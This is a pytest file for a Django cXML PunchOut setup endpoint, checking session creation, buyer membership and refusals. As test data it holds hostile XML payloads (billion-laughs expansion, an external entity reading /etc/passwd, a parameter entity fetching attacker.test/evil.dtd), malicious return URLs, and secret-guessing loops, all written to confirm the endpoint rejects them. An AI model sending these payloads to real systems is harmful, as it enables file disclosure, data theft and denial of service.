"""`POST /punchout/cxml/` with a PunchOutSetupRequest (issue 39 "Setup"): each procurement system's request opens a
session and is answered with a one-time StartPage; every refusal is a cXML Status whose code is the HTTP status, and
a refused request stores no session, no user and no membership."""

from __future__ import annotations

import re

import pytest

from accounts.models import AuditAction, AuditEvent, CompanyRole, User
from punchout.models import PunchoutDocument, PunchoutSession
from tests.factories.accounts import CompanyFactory, MembershipFactory, UserFactory
from tests.punchout.support import (
    ARIBA,
    COUPA,
    DIALECTS,
    JAGGAER,
    Counts,
    answer_of,
    connection_for,
    counts,
    cxml_post,
    document_of,
    golden,
    normalised,
    row,
    start_url_of,
    status_of,
)

pytestmark = pytest.mark.django_db

WRONG_SECRET = "Unknown sender or wrong shared secret."
NOT_ALLOWED_HERE = "The return address (BrowserFormPost URL, HOOK_URL) is not one of the connection's."
EMAIL_UNAVAILABLE = "This e-mail address cannot buy for the company: ask the supplier."
NO_EMAIL = "The request has no valid e-mail address of the buyer (Contact Email)."


def without(document: str, *patterns: str) -> str:
    """The document without the elements that `patterns` (regular expressions) match."""
    for pattern in patterns:
        document, found = re.subn(pattern, "", document, flags=re.S)
        assert found, pattern
    return document


def masked_in(document: str) -> str:
    """The document as the log keeps it: its SharedSecret ****."""
    return re.sub(r"<SharedSecret>.*?</SharedSecret>", "<SharedSecret>****</SharedSecret>", document)


def logged(connection) -> list[tuple]:
    """The connection's logged documents, oldest first: direction, kind, payloadID, status code and text."""
    return list(
        PunchoutDocument.objects.filter(connection=connection)
        .order_by("pk")
        .values_list("direction", "kind", "payload_id", "status_code", "status_text")
    )


# --- a session opened ----------------------------------------------------------------------------------------------

EXPECTED_SESSIONS = {
    "ariba": {
        "email": "rosalind.franklin@kings.test",
        "buyer_cookie": "1J3YVWU9QWMTB",
        "cost_centre": "CC-4410 Structural Biology",
    },
    "coupa": {
        "email": "dorothy.hodgkin@oxford.test",
        "buyer_cookie": "c0a8f1e2-5b7d-4e1a-9d3c-62b7e54f0a19",
        "cost_centre": "OX-CHEM-2201",
    },
    "jaggaer": {
        "email": "barbara.mcclintock@eastman.test",
        "buyer_cookie": "SQ-6631972-00017",
        "cost_centre": "NIH-R01-GM104455",
    },
}


@pytest.mark.parametrize("dialect", DIALECTS, ids=lambda d: d.name)
def test_a_setup_request_of_each_system_opens_a_session_and_answers_its_start_page(client, dialect):
    connection = connection_for(dialect)
    document = document_of(dialect, payload_id=f"1741108527.{dialect.name}@procurement.test")

    response = cxml_post(client, document)

    assert status_of(response) == (200, "200", "")
    assert start_url_of(response).startswith("http://testserver/punchout/start/")
    assert normalised(response.content.decode()) == golden(f"setup-response--{dialect.name}.xml")
    session = PunchoutSession.objects.get()
    expected = EXPECTED_SESSIONS[dialect.name]
    assert (
        session.connection,
        session.company,
        session.user.email,
        session.operation,
        session.buyer_cookie,
        session.return_url,
        session.payload_id,
        session.cost_centre,
        session.items_in,
        session.started_at,
        session.cart,
    ) == (
        connection,
        connection.company,
        expected["email"],
        "create",
        expected["buyer_cookie"],
        dialect.return_url,
        f"1741108527.{dialect.name}@procurement.test",
        expected["cost_centre"],
        [],
        None,
        None,
    )
    received, sent = PunchoutDocument.objects.filter(connection=connection).order_by("pk")
    assert (received.direction, received.kind, received.payload_id, received.status_code, received.session) == (
        "in",
        "PunchOutSetupRequest",
        f"1741108527.{dialect.name}@procurement.test",
        200,
        session,
    )
    assert received.body == masked_in(document)
    assert "<SharedSecret>****</SharedSecret>" in received.body and dialect.secret not in received.body
    assert (sent.direction, sent.kind, sent.status_code, sent.session, sent.body) == (
        "out",
        "Response",
        200,
        session,
        response.content.decode(),
    )


def test_an_edit_request_keeps_the_requisitions_lines_for_the_cart(client):
    connection = connection_for(ARIBA)

    response = cxml_post(client, document_of(ARIBA, name="ariba_setup_edit", payload_id="1741110123.edit@an.test"))

    assert status_of(response) == (200, "200", "")
    assert normalised(response.content.decode()) == golden("setup-response--ariba-edit.xml")
    session = PunchoutSession.objects.get()
    assert (session.connection, session.operation, session.buyer_cookie, session.cost_centre) == (
        connection,
        "edit",
        "1J3YVWU9QWMTC",
        "CC-4410 Structural Biology",
    )
    assert session.items_in == [
        {"part": "HS-4120", "aux": "v=HS-4120-100;o=12:40,13:44", "qty": "2"},
        {"part": "HS-1001", "aux": "v=HS-1001-500", "qty": "6"},
    ]
    assert logged(connection) == [
        ("in", "PunchOutSetupRequest", "1741110123.edit@an.test", 200, ""),
        ("out", "Response", "", 200, ""),
    ]


def test_a_new_buyer_becomes_a_member_of_the_company_in_the_connections_role_without_a_password(client):
    connection = connection_for(COUPA, new_user_role=CompanyRole.SENIOR_BUYER)
    before = counts()

    response = cxml_post(client, document_of(COUPA))

    assert status_of(response) == (200, "200", "")
    buyer = User.objects.get(email="dorothy.hodgkin@oxford.test")
    assert (buyer.first_name, buyer.last_name, buyer.is_active, buyer.is_staff, buyer.has_usable_password()) == (
        "Dorothy",
        "Hodgkin",
        True,
        False,
        False,
    )
    assert (buyer.membership.company, buyer.membership.role) == (connection.company, CompanyRole.SENIOR_BUYER)
    assert (counts().users, counts().memberships) == (before.users + 1, before.memberships + 1)
    event = AuditEvent.objects.get(action=AuditAction.COMPANY_USER_ADDED)
    assert (event.company, event.object_id, event.actor, event.changes) == (
        connection.company,
        str(buyer.pk),
        None,
        {"role": CompanyRole.SENIOR_BUYER, "source": "punchout Coupa"},
    )
    assert PunchoutSession.objects.get().user == buyer


def test_a_junior_buyer_role_on_the_connection_makes_junior_buyers(client):
    connection_for(JAGGAER, new_user_role=CompanyRole.JUNIOR_BUYER)

    cxml_post(client, document_of(JAGGAER))

    buyer = User.objects.get(email="barbara.mcclintock@eastman.test")
    assert (buyer.first_name, buyer.last_name, buyer.membership.role) == (
        "Barbara",
        "McClintock",
        CompanyRole.JUNIOR_BUYER,
    )


def test_an_existing_member_of_the_company_is_signed_in_as_themselves(client):
    connection = connection_for(ARIBA)
    member = MembershipFactory(
        company=connection.company, user__email="Rosalind.Franklin@kings.test", role=CompanyRole.JUNIOR_BUYER
    ).user
    before, member_before = counts(), row(member)

    response = cxml_post(client, document_of(ARIBA))

    assert status_of(response) == (200, "200", "")
    assert PunchoutSession.objects.get().user == member
    assert row(member) == member_before
    assert (counts().users, counts().memberships) == (before.users, before.memberships)
    assert not AuditEvent.objects.filter(action=AuditAction.COMPANY_USER_ADDED).exists()


def test_a_fixed_user_connection_signs_in_its_user_whatever_the_requests_address(client):
    company = CompanyFactory()
    fixed = MembershipFactory(company=company).user
    connection = connection_for(ARIBA, company=company, user_mode="fixed", fixed_user=fixed)
    before = counts()

    response = cxml_post(client, document_of(ARIBA))

    assert status_of(response) == (200, "200", "")
    assert PunchoutSession.objects.get().user == fixed
    assert (counts().users, counts().memberships) == (before.users, before.memberships)
    assert logged(connection)[0][3] == 200


def test_a_document_between_the_apis_1_mb_and_the_2_mb_limit_is_read(client):
    connection_for(COUPA)
    padded = document_of(COUPA).replace("<Request>", "<Request><!-- " + "x" * 1_500_000 + " -->")

    response = cxml_post(client, padded)

    assert status_of(response) == (200, "200", "")
    assert PunchoutSession.objects.count() == 1


def test_the_senders_credential_domain_is_compared_without_case(client):
    connection_for(ARIBA)

    response = cxml_post(
        client, document_of(ARIBA).replace('<Credential domain="NetworkId">', '<Credential domain="NETWORKID">')
    )

    assert status_of(response) == (200, "200", "")


# --- refusals ----------------------------------------------------------------------------------------------------


def assert_nothing_stored(before, *, documents: int = 0) -> None:
    """No session, user or membership more than before; `documents` more log rows (the request and its answer)."""
    assert counts() == Counts(
        sessions=before.sessions,
        users=before.users,
        memberships=before.memberships,
        documents=before.documents + documents,
    )


def test_a_wrong_shared_secret_is_refused_401_and_logged_masked(client):
    connection = connection_for(ARIBA)
    before = counts()
    document = document_of(ARIBA, secret="a-guessed-secret", payload_id="1741108600.guess@an.test")

    response = cxml_post(client, document)

    assert status_of(response) == (401, "401", WRONG_SECRET)
    assert normalised(response.content.decode()) == golden("setup-response--ariba-wrong-secret.xml")
    assert_nothing_stored(before, documents=2)
    assert logged(connection) == [
        ("in", "PunchOutSetupRequest", "1741108600.guess@an.test", 401, WRONG_SECRET),
        ("out", "Response", "", 401, WRONG_SECRET),
    ]
    received = PunchoutDocument.objects.get(direction="in")
    assert received.body == masked_in(document) and "a-guessed-secret" not in received.body


def test_an_empty_shared_secret_is_refused_401(client):
    connection_for(ARIBA)
    before = counts()

    response = cxml_post(client, document_of(ARIBA).replace(f"<SharedSecret>{ARIBA.secret}", "<SharedSecret>"))

    assert status_of(response) == (401, "401", WRONG_SECRET)
    assert_nothing_stored(before, documents=2)


def test_an_unknown_sender_is_refused_401_and_nothing_is_logged(client):
    connection_for(ARIBA)
    before = counts()

    response = cxml_post(client, document_of(COUPA))

    assert status_of(response) == (401, "401", WRONG_SECRET)
    assert_nothing_stored(before)
    assert PunchoutDocument.objects.count() == 0


@pytest.mark.parametrize(
    ("party", "identity"),
    [("From", "AN01000000999"), ("To", "AN01000000001")],
)
def test_a_from_or_to_identity_that_is_not_the_connections_is_refused_401(client, party, identity):
    connection = connection_for(ARIBA)
    document = document_of(ARIBA)
    expected = {"From": "AN01000000147", "To": "AN01000099999"}[party]
    document = re.sub(
        rf"(<{party}>\s*<Credential domain=\"NetworkId\">\s*<Identity>){expected}(</Identity>)",
        rf"\g<1>{identity}\g<2>",
        document,
    )
    assert identity in document
    before = counts()

    response = cxml_post(client, document)

    assert status_of(response) == (401, "401", WRONG_SECRET)
    assert_nothing_stored(before, documents=2)
    assert [status for *_, status, _ in logged(connection)] == [401, 401]


def test_a_from_credential_of_another_domain_is_refused_401(client):
    connection_for(ARIBA)
    before = counts()
    document = document_of(ARIBA).replace(
        '<From>\n      <Credential domain="NetworkId">', '<From>\n      <Credential domain="DUNS">'
    )

    response = cxml_post(client, document)

    assert status_of(response) == (401, "401", WRONG_SECRET)
    assert_nothing_stored(before, documents=2)


def test_an_inactive_connection_is_refused_401_as_an_unknown_sender(client):
    connection_for(ARIBA, is_active=False)
    before = counts()

    response = cxml_post(client, document_of(ARIBA))

    assert status_of(response) == (401, "401", WRONG_SECRET)
    assert_nothing_stored(before)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE cXML [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""


def with_internal_subset(document: str, subset: str, *, entity: str) -> str:
    """The document with a DOCTYPE that declares `subset`, and `&entity;` as the buyer's cookie."""
    document = document.replace(
        '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">',
        f'<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd" [\n{subset}\n]>',
    )
    return re.sub(r"<BuyerCookie>.*?</BuyerCookie>", f"<BuyerCookie>&{entity};</BuyerCookie>", document)


def deeply_nested(document: str, depth: int) -> str:
    return document.replace(
        '<Extrinsic name="User">rfranklin</Extrinsic>',
        '<Extrinsic name="User">' + "<e>" * depth + "rfranklin" + "</e>" * depth + "</Extrinsic>",
    )


UNREADABLE = {
    "malformed": (
        lambda d: d.replace("</BuyerCookie>", "</BuyerCookies>"),
        "The document is not well-formed XML (mismatched tag: line 25, column 34).",
    ),
    "not xml": (lambda d: "PunchOutSetupRequest operation=create", None),
    "empty": (lambda d: "", "The request has no document."),
    "not cxml": (
        lambda d: d.replace("<cXML ", "<Envelope ").replace("</cXML>", "</Envelope>").split("\n", 2)[2],
        "The document is not cXML.",
    ),
    "no header": (
        lambda d: without(d, r"<Header>.*?</Header>"),
        "A cXML request has a Header and a Request with one document.",
    ),
    "no sender": (lambda d: without(d, r"<Sender>.*?</Sender>"), "The Header has no Sender credential."),
    "billion laughs": (
        lambda d: BILLION_LAUGHS + d.split("\n", 2)[2].replace("1J3YVWU9QWMTB", "&lol9;"),
        "Entity declarations and external references are not accepted.",
    ),
    "external entity": (
        lambda d: with_internal_subset(d, '<!ENTITY x SYSTEM "file:///etc/passwd">', entity="x"),
        "Entity declarations and external references are not accepted.",
    ),
    "external parameter entity": (
        lambda d: with_internal_subset(
            d, '<!ENTITY % remote SYSTEM "http://attacker.test/evil.dtd"> %remote;', entity="x"
        ),
        "Entity declarations and external references are not accepted.",
    ),
    "internal entity": (
        lambda d: with_internal_subset(d, '<!ENTITY x "1J3YVWU9QWMTB">', entity="x"),
        "Entity declarations and external references are not accepted.",
    ),
    "too deep": (lambda d: deeply_nested(d, 40), "The document is nested deeper than 40 levels."),
}


@pytest.mark.parametrize("kind", UNREADABLE)
def test_a_document_that_is_not_read_is_refused_400_and_stores_nothing(client, kind):
    connection_for(ARIBA)
    before = counts()
    spoil, text = UNREADABLE[kind]

    response = cxml_post(client, spoil(document_of(ARIBA)))

    status, code, said = status_of(response)
    assert (status, code) == (400, "400")
    if text is None:
        assert said.startswith("The document is not well-formed XML (syntax error: line 1, column 0")
    else:
        assert said == text
    assert_nothing_stored(before)
    assert PunchoutDocument.objects.count() == 0


def test_nesting_up_to_the_limit_is_read(client):
    connection_for(ARIBA)

    # cXML › Request › PunchOutSetupRequest › Extrinsic: 4 levels, and 36 more make the 40 allowed.
    response = cxml_post(client, deeply_nested(document_of(ARIBA), 36))

    assert status_of(response) == (200, "200", "")


def test_a_body_over_2_mb_is_refused_413_before_it_is_read(client):
    connection_for(ARIBA)
    before = counts()
    document = document_of(ARIBA).replace("<Request ", "<!-- " + "x" * (2 * 1024 * 1024) + " --><Request ")
    assert len(document.encode()) > 2 * 1024 * 1024

    response = cxml_post(client, document)

    assert status_of(response) == (413, "413", "The document is larger than 2 MB.")
    assert_nothing_stored(before)


def test_a_body_one_byte_over_2_mb_is_refused_413(client):
    connection_for(ARIBA)
    document = document_of(ARIBA)
    document += " " * (2 * 1024 * 1024 + 1 - len(document.encode()))

    response = cxml_post(client, document)

    assert status_of(response) == (413, "413", "The document is larger than 2 MB.")
    assert PunchoutSession.objects.count() == 0


def refused_after_reading(client, connection, document: str, status: int, text: str) -> None:
    """The request is refused with `status` and `text`, logged with its answer, and stores nothing else."""
    before = counts()

    response = cxml_post(client, document)

    assert status_of(response) == (status, str(status), text)
    assert_nothing_stored(before, documents=2)
    assert [(direction, code, said) for direction, _, _, code, said in logged(connection)][-2:] == [
        ("in", status, text),
        ("out", status, text),
    ]


def test_a_request_without_browser_form_post_is_refused_400(client):
    connection = connection_for(ARIBA)
    document = without(document_of(ARIBA), r"<BrowserFormPost>.*?</BrowserFormPost>")

    refused_after_reading(
        client, connection, document, 400, "The request has no BrowserFormPost URL to send the cart back to."
    )


@pytest.mark.parametrize(
    "return_url",
    [
        "https://attacker.test/collect",
        "https://s1.ariba.com.attacker.test/Buyer/punchout",
        "https://s1.ariba.com:8443/Buyer/punchout",
        "http://s1.ariba.com/Buyer/punchout",
        "javascript:alert(1)",
        "//s1.ariba.com/Buyer/punchout",
    ],
)
def test_a_browser_form_post_outside_the_connections_origins_is_refused_400(client, return_url):
    connection = connection_for(ARIBA)

    refused_after_reading(client, connection, document_of(ARIBA, return_url=return_url), 400, NOT_ALLOWED_HERE)


def test_an_origin_with_its_default_port_or_another_case_is_the_same_origin(client):
    connection_for(ARIBA, return_origins="https://S1.Ariba.com:443\nhttps://s2.ariba.com")

    response = cxml_post(client, document_of(ARIBA, return_url="https://s1.ariba.com/Buyer/punchout?x=1"))

    assert status_of(response) == (200, "200", "")
    assert PunchoutSession.objects.get().return_url == "https://s1.ariba.com/Buyer/punchout?x=1"


def test_an_unknown_operation_is_refused_400(client):
    connection = connection_for(ARIBA)
    document = document_of(ARIBA).replace('operation="create"', 'operation="delete"')

    refused_after_reading(client, connection, document, 400, "Unknown operation “delete”: create, edit or inspect.")


def test_a_payload_id_received_before_is_refused_409(client):
    connection = connection_for(ARIBA)
    document = document_of(ARIBA, payload_id="1741108527.same@an.test")
    first = cxml_post(client, document)
    session = PunchoutSession.objects.get()

    refused_after_reading(client, connection, document, 409, "A request with this payloadID was received before.")

    assert status_of(first) == (200, "200", "")
    assert list(PunchoutSession.objects.all()) == [session]


def test_the_same_payload_id_from_another_connection_is_another_request(client):
    connection_for(ARIBA)
    connection_for(COUPA)

    first = cxml_post(client, document_of(ARIBA, payload_id="1741108527.same@procurement.test"))
    second = cxml_post(client, document_of(COUPA, payload_id="1741108527.same@procurement.test"))

    assert (status_of(first)[0], status_of(second)[0]) == (200, 200)
    assert PunchoutSession.objects.count() == 2


def other_companys_user():
    return MembershipFactory(user__email=ARIBA.email).user


def staff_user():
    return UserFactory(email=ARIBA.email, is_staff=True)


def individual_customer():
    return UserFactory(email=ARIBA.email)


def staff_member_of_the_company(connection):
    return MembershipFactory(company=connection.company, user__email=ARIBA.email, user__is_staff=True).user


def super_admin_member_of_the_company(connection):
    return MembershipFactory(company=connection.company, user__email=ARIBA.email, user__is_super_admin=True).user


def closed_member_of_the_company(connection):
    return MembershipFactory(company=connection.company, user__email=ARIBA.email, user__is_active=False).user


UNAVAILABLE = {
    "another company's user": lambda connection: other_companys_user(),
    "staff": lambda connection: staff_user(),
    "individual customer": lambda connection: individual_customer(),
    "staff member of the company": staff_member_of_the_company,
    "super admin member of the company": super_admin_member_of_the_company,
    "closed member of the company": closed_member_of_the_company,
}


@pytest.mark.parametrize("owner", UNAVAILABLE)
def test_a_buyer_address_of_an_account_that_may_not_buy_for_the_company_is_refused_403(client, owner):
    connection = connection_for(ARIBA)
    user = UNAVAILABLE[owner](connection)
    user_before = row(user)

    refused_after_reading(client, connection, document_of(ARIBA), 403, EMAIL_UNAVAILABLE)

    assert row(user) == user_before
    assert not AuditEvent.objects.filter(action=AuditAction.COMPANY_USER_ADDED).exists()


@pytest.mark.parametrize("address", ["", "rosalind.franklin", "rosalind franklin@kings.test", "@kings.test"])
def test_a_missing_or_invalid_buyer_address_is_refused_400(client, address):
    connection = connection_for(ARIBA)
    document = document_of(ARIBA).replace(ARIBA.email, address)

    refused_after_reading(client, connection, document, 400, NO_EMAIL)


def test_a_request_without_contact_or_user_email_is_refused_400(client):
    connection = connection_for(ARIBA)
    document = without(document_of(ARIBA), r"<Extrinsic name=\"UserEmail\">.*?</Extrinsic>", r"<Email>.*?</Email>")

    refused_after_reading(client, connection, document, 400, NO_EMAIL)


def test_a_fixed_user_of_another_company_is_refused_403(client):
    stranger = MembershipFactory().user
    connection = connection_for(ARIBA, user_mode="fixed", fixed_user=stranger)
    stranger_before = row(stranger)

    refused_after_reading(
        client,
        connection,
        document_of(ARIBA),
        403,
        "The connection's user cannot buy for the company: ask the supplier.",
    )

    assert row(stranger) == stranger_before


def test_a_fixed_user_connection_without_its_user_is_refused_403(client):
    connection = connection_for(ARIBA, user_mode="fixed", fixed_user=None)

    refused_after_reading(
        client,
        connection,
        document_of(ARIBA),
        403,
        "The connection's user cannot buy for the company: ask the supplier.",
    )


@pytest.mark.parametrize("request_kind", ["ProfileRequest", "ConfirmationRequest", "StatusUpdateRequest"])
def test_a_request_the_portal_does_not_take_is_refused_400(client, request_kind):
    """The endpoint takes PunchOutSetupRequest (and OrderRequest, tests/punchout/test_transfer.py); a document the
    portal only sends, or does not offer, is refused by its name."""
    connection = connection_for(ARIBA)
    document = re.sub(
        r"<PunchOutSetupRequest .*</PunchOutSetupRequest>", f"<{request_kind}/>", document_of(ARIBA), flags=re.S
    )

    refused_after_reading(client, connection, document, 400, f"{request_kind} is not accepted at this address.")

    assert PunchoutDocument.objects.filter(direction="in").get().kind == request_kind


def test_get_is_not_allowed_on_the_cxml_endpoint(client):
    connection_for(ARIBA)
    before = counts()

    response = client.get("/punchout/cxml/")

    assert (response.status_code, response["Allow"]) == (405, "POST")
    assert_nothing_stored(before)


def test_a_refusal_answers_a_cxml_document_naming_its_dtd(client):
    response = cxml_post(client, document_of(ARIBA))

    assert response.content.decode().split("\n")[:2] == [
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.060/cXML.dtd">',
    ]
    assert answer_of(response).get("payloadID").endswith("@testserver")


def test_an_address_that_keeps_sending_wrong_secrets_is_refused_for_a_while_even_with_the_right_one(client):
    """Shared secrets cannot be guessed: after 30 refused credentials in ten minutes an address gets 429."""
    from punchout.views import AUTH_FAILURES_LIMIT

    connection_for(ARIBA)
    for n in range(AUTH_FAILURES_LIMIT):
        guess = document_of(ARIBA, secret=f"guess-{n}", payload_id=f"guess-{n}@an.test")
        assert cxml_post(client, guess).status_code == 401
    response = cxml_post(client, document_of(ARIBA, payload_id="right@an.test"))
    assert response.status_code == 429
    assert b"Too many refused requests from this address" in response.content
    assert not PunchoutSession.objects.exists()
